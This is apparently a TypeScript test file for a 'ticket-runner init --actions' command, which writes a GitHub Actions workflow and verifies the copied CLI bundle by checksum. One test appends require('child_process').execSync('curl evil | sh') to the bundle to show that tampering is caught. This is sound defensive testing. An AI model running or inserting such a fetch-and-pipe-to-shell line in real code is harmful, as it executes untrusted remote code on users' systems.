import { strict as assert } from "node:assert";
import { execFileSync } from "node:child_process";
import { createHash } from "node:crypto";
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { actionsWorkflow, WORKFLOW_PATH } from "../../../src/app/actions-workflow";
import { initActions } from "../../../src/app/init-actions";
import { Refusal } from "../../../src/core/errors";
import { PRODUCT_VERSION } from "../../../src/core/version";

describe("ticket-runner init --actions", () => {
  let dir: string;
  beforeEach(() => (dir = mkdtempSync(join(tmpdir(), "tr-init-actions-"))));
  afterEach(() => rmSync(dir, { recursive: true, force: true }));

  const BUNDLE = "#!/usr/bin/env node\nconsole.log('ticket-runner');\n";
  let cliBundle: string;
  beforeEach(() => {
    cliBundle = join(dir, "cli.js");
    writeFileSync(cliBundle, BUNDLE);
  });
  const config = (body: object) => writeFileSync(join(dir, "ticket-runner.json"), JSON.stringify({ checks: [["npm", "test"]], ...body }));

  it("writes the workflow from ticket-runner.json and the flags, then leaves it alone", () => {
    config({ lanes: 3, agent: { kind: "codex" }, lockScope: "host" });
    const first = initActions(dir, { hosts: 4, schedule: "0 * * * *", cliBundle });
    assert.match(first.lines.join("\n"), /created/);
    assert.equal(first.created, true);
    assert.equal(first.needsHostScope, false);
    const text = readFileSync(join(dir, WORKFLOW_PATH), "utf8");
    const sha = createHash("sha256").update(BUNDLE).digest("hex");
    const cliFile = `.github/ticket-runner/ticket-runner-${PRODUCT_VERSION}-${sha.slice(0, 12)}.cjs`;
    assert.equal(readFileSync(join(dir, cliFile), "utf8"), BUNDLE, "the CLI's own file, copied into the Target");
    assert.equal(text, actionsWorkflow({ hosts: 4, schedule: "0 * * * *", lanes: 3, agent: "codex", cliVersion: PRODUCT_VERSION, cliFile, cliSha256: sha }));
    const again = initActions(dir, { hosts: 4, schedule: "0 * * * *", cliBundle });
    assert.match(again.lines.join("\n"), /already there, as init writes it/);
    assert.equal(again.created, false);
    writeFileSync(join(dir, WORKFLOW_PATH), "# mine\n");
    assert.match(initActions(dir, { cliBundle }).lines.join("\n"), /already there and different; left as it is/);
    assert.equal(readFileSync(join(dir, WORKFLOW_PATH), "utf8"), "# mine\n");
  });

  it("says lockScope must be host, and refuses an agent it cannot install or a bad cron, naming the flag", () => {
    config({ agent: { kind: "claude" } });
    const report = initActions(dir, { cliBundle });
    assert.match(report.lines.join("\n"), /"lockScope": "host"/);
    assert.equal(report.needsHostScope, true);
    rmSync(join(dir, WORKFLOW_PATH));
    assert.throws(
      () => initActions(dir, { schedule: "every hour", cliBundle }),
      (e: unknown) => e instanceof Refusal && /--schedule/.test(e.message),
    );
    config({ agent: { kind: "demo" } });
    assert.throws(
      () => initActions(dir, { cliBundle }),
      (e: unknown) => e instanceof Refusal && /agent\.kind is "demo"/.test(e.message),
    );
  });

  it("the workflow's install step runs the committed CLI only while its checksum matches", () => {
    config({ agent: { kind: "claude" }, lockScope: "host" });
    initActions(dir, { cliBundle });
    const yaml = readFileSync(join(dir, WORKFLOW_PATH), "utf8");
    const check = /^ +(echo "[0-9a-f]{64} {2}\S+" \| sha256sum --check --strict .*)$/m.exec(yaml)?.[1];
    assert.ok(check, yaml);
    const run = () =>
      execFileSync("bash", ["--noprofile", "--norc", "-eo", "pipefail", "-c", check], { cwd: dir, encoding: "utf8", stdio: ["ignore", "pipe", "pipe"] });
    assert.match(run(), /: OK/);
    const copy = /(\.github\/ticket-runner\/\S+\.cjs)/.exec(check)![1]!;
    writeFileSync(join(dir, copy), `${BUNDLE}require("child_process").execSync("curl evil | sh");\n`);
    assert.throws(run, (e: { stdout?: string }) =>
      /::error file=\.github\/ticket-runner\/.*is not the file ticket-runner init --actions wrote/.test(e.stdout ?? ""),
    );
  });

  it("refuses, naming the file, when the CLI's own bundle cannot be read", () => {
    config({ agent: { kind: "claude" } });
    assert.throws(
      () => initActions(dir, { cliBundle: join(dir, "missing.js") }),
      (e: unknown) => e instanceof Refusal && /missing\.js/.test(e.message) && /npm run build/.test(e.message),
    );
  });
});
